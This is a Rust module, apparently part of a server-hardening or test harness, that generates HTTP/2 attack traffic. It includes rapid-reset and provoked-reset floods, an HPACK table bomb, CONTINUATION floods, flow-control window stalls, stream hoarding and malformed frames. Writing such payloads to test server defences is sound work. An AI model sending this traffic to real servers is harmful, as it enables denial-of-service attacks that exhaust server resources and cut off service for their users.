//! What attackers of HTTP/2 send: what a connection begins with, and a function for each kind of
//! unit.
//!
//! Not here: what has to become of them (`http2.rs`).

use wire::frame::{ACK, END_HEADERS, END_STREAM, GET, PADDED, PREFACE, kind, put, put_setting};

use super::Pen;

/// The fields of `POST /upload`, whose handler reads the body to its end.
const POST: &[u8] = b"\x83\x86\x44\x07/upload\x41\x01a";

/// The fields of `GET /1m`.
const GET_1M: &[u8] = b"\x82\x86\x44\x03/1m\x41\x01a";

/// Requests that a server lets one connection have, usually.
const STREAMS: u64 = 100;

/// The largest window.
const MAX_WINDOW: u32 = (1 << 31) - 1;

const CANCEL: &[u8] = &[0, 0, 0, 8];

pub(super) fn open(out: &mut Vec<u8>) {
    begin(out, &[], 0);
}

pub(super) fn open_with_window_0(out: &mut Vec<u8>) {
    begin(out, &[(4, 0)], 0);
}

pub(super) fn open_with_window_1(out: &mut Vec<u8>) {
    begin(out, &[(4, 1)], 0);
}

pub(super) fn open_with_large_windows(out: &mut Vec<u8>) {
    begin(out, &[(4, MAX_WINDOW)], MAX_WINDOW - 65_535);
}

fn begin(out: &mut Vec<u8>, settings: &[(u16, u32)], increment: u32) {
    out.extend_from_slice(PREFACE);
    let mut payload = Vec::new();
    for &(number, value) in settings {
        put_setting(&mut payload, number, value);
    }
    put(out, kind::SETTINGS, 0, 0, &payload);
    if increment > 0 {
        put(out, kind::WINDOW_UPDATE, 0, 0, &increment.to_be_bytes());
    }
}

fn get(out: &mut Vec<u8>, stream: u32) {
    put(out, kind::HEADERS, END_STREAM | END_HEADERS, stream, GET);
}

fn post(out: &mut Vec<u8>, stream: u32) {
    put(out, kind::HEADERS, END_HEADERS, stream, POST);
}

pub(super) fn legal(pen: &mut Pen, out: &mut Vec<u8>) {
    get(out, pen.stream());
    // Greetings are short, so that it is long before this is due.
    if pen.number.is_multiple_of(1024) {
        put(out, kind::WINDOW_UPDATE, 0, 0, &(16_u32 << 10).to_be_bytes());
    }
}

pub(super) fn rapid_reset(pen: &mut Pen, out: &mut Vec<u8>) {
    let stream = pen.stream();
    get(out, stream);
    put(out, kind::RST_STREAM, 0, stream, CANCEL);
}

pub(super) fn made_reset_zero(pen: &mut Pen, out: &mut Vec<u8>) {
    let stream = pen.stream();
    post(out, stream);
    put(out, kind::WINDOW_UPDATE, 0, stream, &[0; 4]);
}

pub(super) fn made_reset_overflow(pen: &mut Pen, out: &mut Vec<u8>) {
    let stream = pen.stream();
    post(out, stream);
    put(out, kind::WINDOW_UPDATE, 0, stream, &MAX_WINDOW.to_be_bytes());
}

pub(super) fn made_reset_length(pen: &mut Pen, out: &mut Vec<u8>) {
    let stream = pen.stream();
    // `content-length: 1`, whose name is in the static table.
    let block = [POST, b"\x0f\x0d\x011"].concat();
    put(out, kind::HEADERS, END_HEADERS, stream, &block);
    put(out, kind::DATA, END_STREAM, stream, b"five!");
}

pub(super) fn made_reset_closed(pen: &mut Pen, out: &mut Vec<u8>) {
    let stream = pen.stream();
    get(out, stream);
    put(out, kind::DATA, 0, stream, b"more");
}

pub(super) fn made_reset_priority(pen: &mut Pen, out: &mut Vec<u8>) {
    let stream = pen.stream();
    post(out, stream);
    let mut payload = stream.to_be_bytes().to_vec();
    payload.push(1);
    put(out, kind::PRIORITY, 0, stream, &payload);
}

pub(super) fn bad_head(pen: &mut Pen, out: &mut Vec<u8>) {
    // A method, and no more.
    put(out, kind::HEADERS, END_STREAM | END_HEADERS, pen.stream(), &[0x82]);
}

fn begin_head(pen: &mut Pen, out: &mut Vec<u8>) {
    if pen.number == 0 {
        put(out, kind::HEADERS, END_STREAM, pen.stream(), GET);
    }
}

pub(super) fn continuation_tiny(pen: &mut Pen, out: &mut Vec<u8>) {
    begin_head(pen, out);
    put(out, kind::CONTINUATION, 0, 1, &[0x90]);
}

pub(super) fn continuation_empty(pen: &mut Pen, out: &mut Vec<u8>) {
    begin_head(pen, out);
    put(out, kind::CONTINUATION, 0, 1, &[]);
}

pub(super) fn continuation_large(pen: &mut Pen, out: &mut Vec<u8>) {
    begin_head(pen, out);
    put(out, kind::CONTINUATION, 0, 1, &[0x90; 16 << 10]);
}

pub(super) fn settings(_: &mut Pen, out: &mut Vec<u8>) {
    put(out, kind::SETTINGS, 0, 0, &[]);
}

pub(super) fn settings_ack(_: &mut Pen, out: &mut Vec<u8>) {
    put(out, kind::SETTINGS, ACK, 0, &[]);
}

pub(super) fn ping(_: &mut Pen, out: &mut Vec<u8>) {
    put(out, kind::PING, 0, 0, b"attacker");
}

pub(super) fn ping_ack(_: &mut Pen, out: &mut Vec<u8>) {
    put(out, kind::PING, ACK, 0, b"attacker");
}

pub(super) fn empty_data(pen: &mut Pen, out: &mut Vec<u8>) {
    if pen.number == 0 {
        post(out, pen.stream());
    }
    put(out, kind::DATA, 0, 1, &[]);
}

pub(super) fn padding(pen: &mut Pen, out: &mut Vec<u8>) {
    if pen.number == 0 {
        post(out, pen.stream());
    }
    let mut payload = [0; 32];
    payload[0] = 31;
    put(out, kind::DATA, PADDED, 1, &payload);
}

pub(super) fn empty_headers(pen: &mut Pen, out: &mut Vec<u8>) {
    put(out, kind::HEADERS, END_STREAM | END_HEADERS, pen.stream(), &[]);
}

pub(super) fn window_update(_: &mut Pen, out: &mut Vec<u8>) {
    put(out, kind::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes());
}

pub(super) fn priority(_: &mut Pen, out: &mut Vec<u8>) {
    put(out, kind::PRIORITY, 0, 1001, &[0, 0, 0, 3, 15]);
}

pub(super) fn priority_update(pen: &mut Pen, out: &mut Vec<u8>) {
    let mut payload = pen.stream().to_be_bytes().to_vec();
    payload.extend_from_slice(b"u=1, i");
    put(out, kind::PRIORITY_UPDATE, 0, 0, &payload);
}

pub(super) fn closed_reset(pen: &mut Pen, out: &mut Vec<u8>) {
    if pen.number == 0 {
        get(out, pen.stream());
    }
    put(out, kind::RST_STREAM, 0, 1, CANCEL);
}

pub(super) fn closed_data(pen: &mut Pen, out: &mut Vec<u8>) {
    if pen.number == 0 {
        let stream = pen.stream();
        get(out, stream);
        put(out, kind::RST_STREAM, 0, stream, CANCEL);
    }
    put(out, kind::DATA, 0, 1, b"a late piece");
}

pub(super) fn unknown(_: &mut Pen, out: &mut Vec<u8>) {
    put(out, 0xbb, 0, 0, b"unknown");
}

pub(super) fn goaway(_: &mut Pen, out: &mut Vec<u8>) {
    put(out, kind::GOAWAY, 0, 0, &[0; 8]);
}

pub(super) fn hpack_bomb(pen: &mut Pen, out: &mut Vec<u8>) {
    // `GET /` for `a`, none of which goes into the table.
    let mut block = b"\x82\x86\x84\x01\x01a".to_vec();
    if pen.number == 0 {
        // A literal with incremental indexing: the name `a`, a value of 4,000 bytes.
        block.extend_from_slice(b"\x40\x01a\x7f\xa1\x1e");
        block.extend_from_slice(&[b'x'; 4000]);
    }
    // The newest entry of the table.
    block.resize(16_000, 0xbe);
    put(out, kind::HEADERS, END_STREAM | END_HEADERS, pen.stream(), &block);
}

pub(super) fn huge_list(pen: &mut Pen, out: &mut Vec<u8>) {
    let stream = pen.stream();
    put(out, kind::HEADERS, END_STREAM, stream, GET);
    // Literals that are not put in a table: the name `a`, values of 120 bytes.
    let mut field = b"\x00\x01a\x78".to_vec();
    field.resize(4 + 120, b'x');
    let fields = field.repeat(16_000 / field.len());
    put(out, kind::CONTINUATION, 0, stream, &fields);
    put(out, kind::CONTINUATION, 0, stream, &fields);
    put(out, kind::CONTINUATION, END_HEADERS, stream, &fields);
}

pub(super) fn window_one(pen: &mut Pen, out: &mut Vec<u8>) {
    if pen.number < STREAMS {
        put(out, kind::HEADERS, END_STREAM | END_HEADERS, pen.stream(), GET_1M);
        return;
    }
    let stream = 1 + 2 * u32::try_from(pen.number % STREAMS).unwrap_or(0);
    put(out, kind::WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes());
}

pub(super) fn window_zero(pen: &mut Pen, out: &mut Vec<u8>) {
    if pen.number < STREAMS {
        put(out, kind::HEADERS, END_STREAM | END_HEADERS, pen.stream(), GET_1M);
    } else {
        // Now and then, so that nobody takes it for gone.
        put(out, kind::PRIORITY, 0, 1, &[0, 0, 0, 3, 15]);
    }
}

pub(super) fn hoard(pen: &mut Pen, out: &mut Vec<u8>) {
    if pen.number < STREAMS {
        post(out, pen.stream());
    } else {
        put(out, kind::PRIORITY, 0, 1, &[0, 0, 0, 3, 15]);
    }
}

pub(super) fn refused_streams(pen: &mut Pen, out: &mut Vec<u8>) {
    // As one who knows the rules.
    if pen.number == 0 {
        put(out, kind::SETTINGS, ACK, 0, &[]);
    }
    post(out, pen.stream());
}
